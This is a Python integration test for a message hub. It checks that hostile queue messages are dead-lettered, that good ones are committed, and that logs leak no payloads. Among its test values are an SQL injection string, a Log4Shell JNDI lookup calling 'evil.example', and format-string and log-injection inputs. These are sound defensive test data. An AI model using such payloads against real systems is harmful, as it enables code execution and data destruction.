"""Hostile input through a running hub: every hostile message is dead-lettered
with a reason, every good one interleaved with them is committed, the worker
process lives on without a restart, and no log line carries a payload.

The hostile catalogue (tests/hostile.py): malformed JSON, invalid UTF-8, wrong
types, missing and extra fields, huge strings and bodies (one near the broker's
128 MiB limit), nesting past the recursion limit, control characters, invisible
and lookalike text, injection strings, and odd AMQP properties: missing message
ids, wrong content types, headers of the wrong type or out of range, timestamps
no clock can show, message ids that are not UTF-8, routing keys no source has.
"""

from __future__ import annotations

import os
from pathlib import Path

import asyncpg
import pytest

from hub.broker.connection import message_id_for, scoped_message_id
from hub.text_rules import storable
from tests.helpers import hub, jsonl
from tests.hostile import (
    DEAD_REASONS,
    Message,
    good,
    good_with_odd_properties,
    hostile,
    mix,
    publish,
)

pytestmark = pytest.mark.integration

NEAR_LIMIT = 120 << 20  # RabbitMQ's default max_message_size is 128 MiB
# Log events that mean the worker (or a component) failed and was restarted.
FAILURE_EVENTS = ("component_failed", "batch_aborted", "batch_failed", "message_failed",
                  "Traceback", "poison_message")


def hub_pid(database_url: str) -> int:
    """The `hub run` process serving this test's database (found in /proc)."""
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            cmd = Path(f"/proc/{entry}/cmdline").read_bytes().split(b"\0")
            environ = Path(f"/proc/{entry}/environ").read_bytes().split(b"\0")
        except OSError:
            continue
        if b"hub.cli.main" in cmd and b"run" in cmd and (
            f"HUB_DATABASE_URL={database_url}".encode() in environ
        ):
            found.append(int(entry))
    assert len(found) == 1, found
    return found[0]


def expected_id(m: Message) -> str | None:
    """The id the hub files the message under, when the test can know it."""
    mid = m.properties.get("message_id", "")
    if isinstance(mid, str) and mid:  # a publisher's id, within its routing key
        return scoped_message_id(storable(m.routing_key), storable(mid), m.body)
    if mid is None:  # sent without an id: the hub derives one from the content
        return message_id_for(m.routing_key, m.body)
    return None  # a raw (non-UTF-8) id: found by its canary instead


def unusual_but_valid(start: int) -> list[Message]:
    """Good updates with text that looks alarming but is a legitimate value:
    stored verbatim, never dead-lettered, never run."""
    import json

    texts = ["Robert'); DROP TABLE children;--", "${jndi:ldap://evil.example/a}",
             "%s%n{0}<b>", 'Perrin\n{"event": "decision", "level": "info"}', "Leeds\rLondon",
             "Людмила", "Siân", "Mary\u00a0Ann", "Zoë-Ḿai", "O\u2019Brien", "Ελένη"]
    out = []
    for n, text in enumerate(texts):
        m = good(start + n)
        body = json.loads(m.body)
        body["child"]["given_name"] = text
        m.body = json.dumps(body).encode()
        m.kind = "unusual_but_valid"
        m.secrets = (*m.secrets[1:], text)  # the generated given name is gone
        out.append(m)
    return out


async def test_hostile_messages_are_dead_lettered_and_good_ones_committed(
    running: dict[str, str], settings, tmp_path: Path
) -> None:
    env = running
    pid = hub_pid(settings.database_url)
    goods = [good(i) for i in range(120)]
    goods += good_with_odd_properties(len(goods))
    unusual = unusual_but_valid(len(goods))
    goods += unusual
    bad = hostile(near_limit=NEAR_LIMIT)
    await publish(settings.amqp_url, mix(goods, bad))
    hub(env, "wait", "--timeout", "300", timeout=330)

    conn = await asyncpg.connect(settings.database_url)
    try:
        dead = await conn.fetch(
            "SELECT message_id, reason, error, source_record_id, left(raw, 4096) AS head"
            " FROM parked WHERE kind = 'dead'")
        processed = {r["message_id"]: r["outcome"] for r in await conn.fetch(
            "SELECT message_id, outcome FROM processed_messages")}
        linked = {r["source_record_id"] for r in await conn.fetch(
            "SELECT source_record_id FROM source_links WHERE source = 'dwp'")}
        given = {r["given_name"] for r in await conn.fetch(
            "SELECT record->>'given_name' AS given_name FROM children")}
        children = await conn.fetchval("SELECT count(*) FROM children")
    finally:
        await conn.close()

    # Every hostile message is a dead letter with a documented reason.
    by_id = {r["message_id"]: r for r in dead}
    problems = []
    for m in bad:
        mid = expected_id(m)
        row = by_id.get(mid) if mid else next(
            (r for r in dead if m.canary in (r["head"] or "")), None)
        if row is None:
            problems.append(f"{m.kind}: not dead-lettered (outcome {processed.get(mid)})")
        elif row["reason"] not in DEAD_REASONS or not row["error"]:
            problems.append(f"{m.kind}: reason {row['reason']!r}")
        elif m.expect and row["reason"] != m.expect:
            problems.append(f"{m.kind}: reason {row['reason']}, expected {m.expect}")
    assert not problems, "\n".join(problems)
    assert len(dead) == len(bad)  # and nothing else: no good update among them

    # Every good one is committed: its own child, linked to its source record.
    for m in goods:
        mid = expected_id(m)
        assert mid is not None
        assert processed.get(mid, "").startswith("create:"), (m.kind, processed.get(mid))
    assert {f"GOOD-{i:05d}" for i in range(len(goods))} <= linked
    assert children == len(goods)
    assert {m.secrets[-1] for m in unusual} <= given  # stored exactly as sent

    # The worker lived through it: same process, nothing failed or restarted.
    assert hub_pid(settings.database_url) == pid
    log = (tmp_path / "hub.log").read_text(errors="replace")
    for event in FAILURE_EVENTS:
        assert event not in log, event
    # No log line carries a payload: neither a canary nor a good child's details.
    leaks = [s for m in goods + bad for s in m.secrets if s in log]
    assert not leaks, leaks[:10]

    # The operator sees them all, each with its reason.
    listed = jsonl(hub(env, "dlq", "list", "--json").stdout)
    assert len(listed) == len(bad) and all(d["reason"] in DEAD_REASONS for d in listed)
